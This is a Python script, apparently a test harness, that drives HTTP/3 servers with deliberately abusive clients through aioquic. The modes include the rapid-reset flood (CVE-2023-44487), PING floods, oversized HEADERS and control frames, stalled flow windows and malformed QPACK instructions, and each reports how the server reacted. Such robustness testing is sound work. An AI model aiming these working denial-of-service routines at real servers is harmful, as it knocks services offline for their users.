"""HTTP/3 clients that do harm, by the `aioquic` package. Says how it ended, as JSON.

    h3_abuse.py resets HOST:PORT COUNT     opens streams and resets them at once (CVE-2023-44487)
    h3_abuse.py pings HOST:PORT COUNT      sends PING frames, hundreds in each packet
    h3_abuse.py window HOST:PORT PATH      asks with the stream's window closed, and never opens it
    h3_abuse.py header HOST:PORT MIB       says that its header has that many MiB, and sends them
    h3_abuse.py settings HOST:PORT MIB     the same of a frame on the control stream
    h3_abuse.py insert HOST:PORT COUNT     puts COUNT fields into a QPACK table that it was not given
    h3_abuse.py encoder HOST:PORT HEX      instructions of QPACK; with a `?` behind them a request follows
    h3_abuse.py decoder HOST:PORT HEX      the same on the decoder's stream
    h3_abuse.py closes HOST:PORT encoder   ends one of QPACK's streams, which must stay open
    h3_abuse.py bomb HOST:PORT COUNT       a header block of COUNT references to fields that nobody put in

`ended` is `closed` where the connection ended, `reset` or `answered` where only the stream did, `open` where neither did.
"""

import asyncio
import json
import ssl
import sys

from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.buffer import encode_uint_var
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.events import DataReceived, HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated, StopSendingReceived, StreamReset
from aioquic.quic.packet import QuicFrameType

PATIENCE = 60
REQUEST_CANCELLED = 0x10C
HEADERS, SETTINGS = 1, 4
# What is written before the transport is given its turn.
PIECE = 64 << 10
# Modes whose word is no number.
WORDS = ("window", "encoder", "decoder", "closes")
# Frames of a packet.
PINGS = 500


class Client(QuicConnectionProtocol):
    # Whether streams are opened without a window.
    closed = False

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.http = H3Connection(self._quic)
        if self.closed:
            self._quic._local_max_stream_data_bidi_local = 0
        self.over = asyncio.get_running_loop().create_future()
        self.stream, self.status = None, None

    def end(self, **how):
        if not self.over.done():
            self.over.set_result(how)

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            return self.end(ended="closed", code=event.error_code, reason=event.reason_phrase)
        if isinstance(event, StreamReset) and event.stream_id == self.stream:
            return self.end(ended="reset", code=event.error_code, status=self.status)
        if isinstance(event, StopSendingReceived):
            return
        for event in self.http.handle_event(event):
            if getattr(event, "stream_id", None) != self.stream:
                continue
            if isinstance(event, HeadersReceived):
                self.status = int(dict(event.headers)[b":status"])
            if isinstance(event, (HeadersReceived, DataReceived)) and event.stream_ended:
                self.end(ended="answered", status=self.status)

    def open(self):
        return self._quic.get_next_available_stream_id()

    def fields(self, path="/"):
        pairs = [(":method", "GET"), (":scheme", "https"), (":authority", "first.test"), (":path", path)]
        return [(name.encode(), value.encode()) for name, value in pairs]

    async def resets(self, count):
        for at in range(count):
            if self.over.done():
                return
            number = self.open()
            # aioquic keeps data back where the server allows no more streams yet, and resets go all the same.
            while number // 4 >= self._quic._remote_max_streams_bidi and not self.over.done():
                self.transmit()
                await asyncio.sleep(0.001)
            self.http.send_headers(number, self.fields())
            self._quic.reset_stream(number, REQUEST_CANCELLED)
            if at % 50 == 49:
                self.transmit()
                await asyncio.sleep(0.001)
        self.transmit()

    async def pings(self, count):
        def frames(builder, uids=(), comment=""):
            for _ in range(PINGS):
                builder.start_frame(QuicFrameType.PING)

        self._quic._write_ping_frame = frames
        for at in range(count // PINGS):
            if self.over.done():
                return
            self._quic.send_ping(at)
            self.transmit()
            await asyncio.sleep(0.001)

    async def window(self, path):
        self.stream = self.open()
        self.http.send_headers(self.stream, self.fields(path), end_stream=True)
        self.transmit()

    async def pour(self, number, kind, mib):
        """A frame that says how long it is, and is."""
        left = mib << 20
        self._quic.send_stream_data(number, encode_uint_var(kind) + encode_uint_var(left))
        while left and not self.over.done():
            # What waits to be sent is kept small: the windows say how fast it goes.
            waiting = sum(len(stream.sender._buffer) for stream in self._quic._streams.values())
            if waiting < 4 * PIECE:
                self._quic.send_stream_data(number, bytes(min(PIECE, left)))
                left -= min(PIECE, left)
            self.transmit()
            await asyncio.sleep(0)

    async def header(self, mib):
        self.stream = self.open()
        await self.pour(self.stream, HEADERS, mib)

    async def settings(self, mib):
        # A frame of a type that nobody knows, behind the settings.
        await self.pour(self.http._local_control_stream_id, 0x21, mib)

    async def insert(self, count):
        # Insert with literal name (RFC 9204 section 4.3.3), after a capacity that was not offered.
        one = b"\x46x-fill" + b"\x7f\x81\x1e" + b"y" * 4_000
        self._quic.send_stream_data(self.http._local_encoder_stream_id, b"\x3f\xe1\x1f" + one * count)
        self.transmit()

    async def instruct(self, number, word):
        self._quic.send_stream_data(number, bytes.fromhex(word.rstrip("?")))
        if word.endswith("?"):
            # Answered, so the instructions have come.
            await self.ping()
            await self.window("/name")
        self.transmit()

    async def encoder(self, word):
        await self.instruct(self.http._local_encoder_stream_id, word)

    async def decoder(self, word):
        await self.instruct(self.http._local_decoder_stream_id, word)

    async def closes(self, which):
        self._quic.send_stream_data(getattr(self.http, f"_local_{which}_stream_id"), b"", end_stream=True)
        self.transmit()

    async def bomb(self, count):
        self.stream = self.open()
        # A prefix that requires one insert, and indexed fields of the dynamic table (RFC 9204 sections 4.5.1 and 4.5.2).
        block = b"\x02\x00" + b"\x80" * count
        self._quic.send_stream_data(self.stream, encode_uint_var(HEADERS) + encode_uint_var(len(block)) + block, True)
        self.transmit()


async def main(mode, authority, word):
    host, port = authority.rsplit(":", 1)
    Client.closed = mode == "window"
    config = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="first.test")
    config.verify_mode = ssl.CERT_NONE
    config.idle_timeout = PATIENCE
    async with connect(host, int(port), configuration=config, create_protocol=Client) as client:
        doing = asyncio.ensure_future(getattr(client, mode)(word if mode in WORDS else int(word)))
        try:
            how = await asyncio.wait_for(asyncio.shield(client.over), PATIENCE)
        except asyncio.TimeoutError:
            how = {"ended": "open"}
        doing.cancel()
        print(json.dumps(how), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:4]))
